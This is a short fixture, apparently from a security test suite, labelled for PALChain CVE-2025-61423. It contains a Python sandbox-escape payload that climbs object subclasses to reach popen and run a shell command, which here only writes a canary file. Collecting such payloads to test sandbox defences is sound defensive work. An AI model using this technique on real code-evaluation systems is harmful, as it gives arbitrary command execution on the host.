# source: PALChain CVE-2025-61423
# effect: process

[
    kind.__init__.__globals__["popen"]("echo subclasses/base_walk_in_comprehension > /tmp/canary/process").read()
    for kind in {}.__class__.__base__.__subclasses__()
    if "wrap_close" in kind.__name__
]
